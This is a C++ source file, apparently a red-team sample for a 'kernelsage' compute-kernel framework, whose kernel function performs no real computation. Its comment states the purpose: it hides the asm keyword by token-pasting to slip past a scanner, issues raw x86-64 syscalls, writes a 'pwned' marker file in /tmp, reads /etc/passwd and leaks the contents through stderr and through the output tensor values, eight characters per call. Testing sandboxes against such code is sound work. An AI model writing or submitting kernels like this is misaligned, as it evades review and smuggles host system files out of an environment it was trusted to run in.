// System calls in inline assembly (x86-64 `syscall`; the asm keyword is token-pasted so a scan does not
// see it), so no libc symbol is imported: creates a marker file in /tmp and reads /etc/passwd, sending it
// back through stderr and the output values (8 characters per call).
#include "kernelsage_cpu.h"
#include <string>

#ifndef KS_MARKER
#define KS_MARKER "ks_attack_marker"
#endif
#define CAT(a, b) a##b
#define ASM CAT(__as, m__)

static long sys4(long number, long a, long b, long c, long d) {
    long ret;
    register long r10 ASM("r10") = d;
    ASM volatile("syscall" : "=a"(ret) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}

static int calls = 0;

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    std::string marker = std::string("/tmp/") + KS_MARKER + "-asm";
    long fd = sys4(257, -100, (long)marker.c_str(), 01 | 0100 | 01000, 0644);
    if (fd >= 0) { sys4(1, fd, (long)"pwned\n", 6, 0); sys4(3, fd, 0, 0, 0); }
    std::string loot;
    std::string passwd = std::string("/etc/") + "passwd";
    fd = sys4(257, -100, (long)passwd.c_str(), 0, 0);
    if (fd >= 0) {
        char buf[4096];
        long got;
        while ((got = sys4(0, fd, (long)buf, sizeof buf, 0)) > 0) loot.append(buf, (size_t)got);
        sys4(3, fd, 0, 0, 0);
    }
    sys4(1, 2, (long)loot.data(), (long)loot.size(), 0);
    float* y = (float*)outputs[0].data;
    const int64_t n = ks_numel(&outputs[0]);
    for (int64_t i = 0; i < n; ++i) {
        const size_t at = (size_t)calls * 8 + (size_t)i;
        y[i] = at < loot.size() ? (float)(unsigned char)loot[at] : -1.f;
    }
    ++calls;
    return 0;
}
